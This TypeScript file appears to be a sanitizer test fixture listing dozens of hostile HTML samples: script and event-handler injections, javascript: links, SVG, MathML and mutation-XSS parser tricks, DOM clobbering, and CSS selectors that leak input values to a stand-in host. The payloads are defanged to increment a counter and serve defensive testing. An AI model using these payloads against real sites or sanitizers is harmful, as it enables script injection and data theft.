/** Markup that is made to do harm, each kind by a sample of its own; what it would do is ring a bell. */

/** Nobody answers here; that it is asked is the harm. */
export const ELSEWHERE = "https://evil.invalid";

/** Rings the bell, from whatever frame it runs in. */
const RING = "top.bell=(top.bell||0)+1";
const DATA = "data:text/html,<script>" + RING + "</script>";

/** By the way they take. */
export const hostileHtml: Record<string, string> = {
  script: `<script>${RING}</script>`,
  "script from elsewhere": `<script src="${ELSEWHERE}/x.js"></script>`,
  "script in SVG": `<svg><script>${RING}</script></svg>`,
  "script by SVG's href": `<svg><script xlink:href="${ELSEWHERE}/x.js"></script></svg>`,
  "image handler": `<img src=x onerror="${RING}">`,
  "image with a broken attribute": `<img src="x\`"\` onerror=${RING}//">`,
  "body handler": `<body onload="${RING}"><p>体</p></body>`,
  "focus handler": `<input autofocus onfocus="${RING}"><p contenteditable tabindex=0 autofocus onfocus="${RING}">焦</p>`,
  "details handler": `<details open ontoggle="${RING}"><summary>详</summary>细</details>`,
  "media handler": `<video><source onerror="${RING}"></video><audio src=x onerror="${RING}"></audio>`,
  "animation handler": `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${RING}">动</p>`,
  "SVG load": `<svg onload="${RING}"><rect/></svg>`,
  "SVG animation": `<svg><a><animate attributeName=href values="javascript:${RING}"/><text y=20>字</text></a></svg>`,
  "SVG use": `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RING}</script></svg>#x"/></svg>`,
  "SVG foreign object": `<svg><foreignObject><iframe srcdoc="<script>${RING}</script>"></iframe></foreignObject></svg>`,
  "SVG picture by data": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RING}'/>">`,
  "javascript link": `<a href="javascript:${RING}">链</a>`,
  "javascript link with white space": `<a href=" java\tscript:\n${RING}">链</a>`,
  "javascript link with entities": `<a href="&#106;avascript&colon;${RING}">链</a>`,
  "vbscript link": '<a href="vbscript:msgbox(1)">链</a>',
  "data link": `<a href="${DATA}">链</a>`,
  "link by xlink": `<svg><a xlink:href="javascript:${RING}"><text>字</text></a></svg>`,
  "MathML link": `<math><mrow href="javascript:${RING}"><mtext>式</mtext></mrow></math>`,
  iframe: `<iframe src="javascript:${RING}"></iframe><iframe src="${DATA}"></iframe><iframe src="${ELSEWHERE}/f"></iframe>`,
  "iframe srcdoc": `<iframe srcdoc="<script>${RING}</script>"></iframe>`,
  object: `<object data="${DATA}"></object><embed src="${ELSEWHERE}/e.swf"><applet code=x></applet>`,
  refresh: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/r"><meta http-equiv=refresh content="0;url=javascript:${RING}">`,
  base: `<base href="${ELSEWHERE}/"><a href="x">链</a><img src="y.png">`,
  "style import": `<style>@import "${ELSEWHERE}/i.css"; p{background:url(${ELSEWHERE}/b.png)}</style><link rel=stylesheet href="${ELSEWHERE}/l.css"><link rel=preload as=image href="${ELSEWHERE}/p.png">`,
  "style exfiltration": `<style>input[value^=a]{background:url(${ELSEWHERE}/a)}@font-face{font-family:q;src:url(${ELSEWHERE}/q);unicode-range:U+41}</style><p style="font-family:q;background:url('${ELSEWHERE}/s.png');list-style:url(${ELSEWHERE}/t)">A 样式</p>`,
  "style expression": `<p style="width:expression(${RING});behavior:url(${ELSEWHERE}/h.htc);-moz-binding:url(${ELSEWHERE}/m.xml#x)">式</p>`,
  "remote pictures": `<img src="${ELSEWHERE}/1.png" srcset="${ELSEWHERE}/2.png 2x"><picture><source srcset="${ELSEWHERE}/3.png"><img src="//evil.invalid/4.png"></picture><img data-src="${ELSEWHERE}/5.png"><table background="${ELSEWHERE}/6.png"><tr><td>格</td></tr></table><video poster="${ELSEWHERE}/7.png"></video><input type=image src="${ELSEWHERE}/8.png">`,
  forms: `<form action="${ELSEWHERE}/f"><form><input name=x><button formaction="javascript:${RING}">钮</button></form></form><form id=f></form><button form=f formaction="javascript:${RING}">钮</button>`,
  "DOM clobbering":
    "<form name=body><input name=childNodes></form><a id=location></a><img name=getElementById>",
  "mutation by style in MathML": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RING}&gt;">`,
  "mutation by noscript": `<noscript><p title="</noscript><img src=x onerror=${RING}>">无</p></noscript>`,
  "mutation by svg style": `<svg></p><style><a id="</style><img src=x onerror=${RING}>">`,
  "mutation by template": `<template><img src=x onerror="${RING}"></template><div><template shadowrootmode=open><script>${RING}</script></template></div>`,
  "mutation by select": `<select><option><style></option></select><img src=x onerror=${RING}></style>`,
  "conditional comment": `<!--[if gte IE 4]><script>${RING}</script><![endif]--><!--[if !vml]><img src=x onerror="${RING}"><![endif]-->`,
  "Office markup": `<xml><o:x onload="${RING}"></o:x></xml><v:shape><v:imagedata src="${ELSEWHERE}/v.png" onerror="${RING}"/></v:shape><p style='mso-element:comment' onclick="${RING}">注</p>`,
  "unclosed title": `<title><img src=x onerror=${RING}>`,
  "unclosed textarea": `<textarea><img src=x onerror=${RING}>`,
  plaintext: `<plaintext><img src=x onerror=${RING}>`,
  "processing instruction": `<?xml-stylesheet href="javascript:${RING}"?><![CDATA[<img src=x onerror=${RING}>]]>`,
  "text that looks like markup": `<p>&lt;img src=x onerror=${RING}&gt;&lt;script&gt;${RING}&lt;/script&gt;</p>`,
};
